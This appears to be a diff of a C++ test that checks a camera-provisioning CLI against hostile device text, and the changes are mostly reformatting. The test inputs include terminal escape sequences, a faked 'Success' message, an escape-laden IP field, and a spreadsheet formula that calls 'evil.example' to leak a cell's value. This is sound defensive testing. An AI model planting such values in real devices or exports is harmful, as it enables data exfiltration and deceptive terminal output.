@@ -46,11 +46,11 @@ int TableLines(const std::string& text) {
 TEST_F(HostileTextLan, CameraTextsReachPeopleVisibleAndNoPasswordIsTraced) {
     ASSERT_TRUE(lan.AddBasic(BasicRange(10, 14)));
     // An OID whose value holds "%Error" reads as a refusal: the camera writes the message.
-    EmulatedCamera hostile = Cam(kName, "02:e5:a1:00:0d:01", "10.77.0.10",
-                                 {{"http", true}, {"oids", {{"7.7", "%Error\x1b[2J\nSuccess"}}}});
+    EmulatedCamera hostile =
+        Cam(kName, "02:e5:a1:00:0d:01", "10.77.0.10", {{"http", true}, {"oids", {{"7.7", "%Error\x1b[2J\nSuccess"}}}});
     hostile.productName = "Z\xc2\x85\x1b[m";
-    EmulatedCamera formula = Cam("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "02:e5:a1:00:0d:02",
-                                 "10.77.0.11");
+    EmulatedCamera formula =
+        Cam("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "02:e5:a1:00:0d:02", "10.77.0.11");
     formula.productName = "@SUM(1+1)";
     const EmulatedCamera web = WebCam("Web", "02:e5:a1:00:0d:03", "10.77.0.12");
     // Not listed (its TXT names no address), but traced with that text.
@@ -59,9 +59,9 @@ TEST_F(HostileTextLan, CameraTextsReachPeopleVisibleAndNoPasswordIsTraced) {
 
     // The table: a heading and one line a camera, the hostile one written out.
     std::string out, err;
-    ASSERT_EQ(lan.Run("pc", {VANTREL_CLI, "--trace", "scan", "--sort", "hw"}, &out, false, std::chrono::seconds(60),
-                      &err),
-              0);
+    ASSERT_EQ(
+        lan.Run("pc", {VANTREL_CLI, "--trace", "scan", "--sort", "hw"}, &out, false, std::chrono::seconds(60), &err),
+        0);
     EXPECT_EQ(TableLines(out), 4) << out;
     EXPECT_FALSE(HasControl(out, "\n\t")) << out;
     EXPECT_NE(out.find("\n" + kNameShown + "\tZ\xc3\x82\\x85\\x1b[m\t02:e5:a1:00:0d:01\t10.77.0.10\n"),
@@ -69,8 +69,7 @@ TEST_F(HostileTextLan, CameraTextsReachPeopleVisibleAndNoPasswordIsTraced) {
         << out;
     // The trace: one visible line each, the TXT value included.
     EXPECT_FALSE(HasControl(err)) << err;
-    EXPECT_NE(err.find("ParseTXT: ip addr \"\\x1b[2J\\x0a10.77.0.99\" is no IPv4 address\n"), std::string::npos)
-        << err;
+    EXPECT_NE(err.find("ParseTXT: ip addr \"\\x1b[2J\\x0a10.77.0.99\" is no IPv4 address\n"), std::string::npos) << err;
 
     // The plan: formulas as text, for a spreadsheet and for provision alike.
     ASSERT_EQ(lan.Run("pc", {VANTREL_CLI, "scan", "--csv"}, &out), 0);
@@ -79,29 +78,31 @@ TEST_F(HostileTextLan, CameraTextsReachPeopleVisibleAndNoPasswordIsTraced) {
         << out;
 
     // get into a pipe keeps the bytes; on a terminal they show written out.
-    ASSERT_EQ(lan.Run("pc", {VANTREL_CLI, "--trace", "get", "10.77.0.10", "2.4"}, &out, false,
-                      std::chrono::seconds(30), &err),
+    ASSERT_EQ(lan.Run("pc", {VANTREL_CLI, "--trace", "get", "10.77.0.10", "2.4"}, &out, false, std::chrono::seconds(30),
+                      &err),
               0);
     EXPECT_EQ(out, kName + "\n");
     EXPECT_FALSE(HasControl(err)) << err;
     if (access("/usr/bin/script", X_OK) == 0) {
-        ASSERT_EQ(lan.Run("pc", {"/usr/bin/script", "-qec", std::string("'") + VANTREL_CLI + "' get 10.77.0.10 2.4",
-                                 "/dev/null"},
-                          &out),
-                  0);
+        ASSERT_EQ(
+            lan.Run("pc",
+                    {"/usr/bin/script", "-qec", std::string("'") + VANTREL_CLI + "' get 10.77.0.10 2.4", "/dev/null"},
+                    &out),
+            0);
         EXPECT_EQ(out, "\\x1b]0;owned\\x07\\x1b[2J\\x0d\\x0aFake\\x09\\x7f\\x9b\r\n");
     } else {
         std::printf("no /usr/bin/script here: get on a terminal not tried\n");
     }
     // The camera's refusal: the message's own line break, then the camera's text on one line.
-    EXPECT_EQ(lan.Run("pc", {VANTREL_CLI, "get", "10.77.0.10", "7.7"}, &out, false, std::chrono::seconds(30), &err),
-              1);
+    EXPECT_EQ(lan.Run("pc", {VANTREL_CLI, "get", "10.77.0.10", "7.7"}, &out, false, std::chrono::seconds(30), &err), 1);
     EXPECT_EQ(err, "Query for 7.7 failed with\n%Error\\x1b[2J\\x0aSuccess\n");
 
     // The HTTP assignment goes with the administrator's credentials; its trace names none.
+    // clang-format off
     EXPECT_EQ(lan.Run("pc",
                       {VANTREL_CLI, "--trace", "assign", web.hwAddr, "--via", "mdns", "--ip", "10.77.0.13", "--subnet",
                        "255.255.255.0", "--gateway", "10.77.0.1", "--force"},
+                      // clang-format on
                       &out, false, std::chrono::seconds(60), &err),
               0)
         << err;
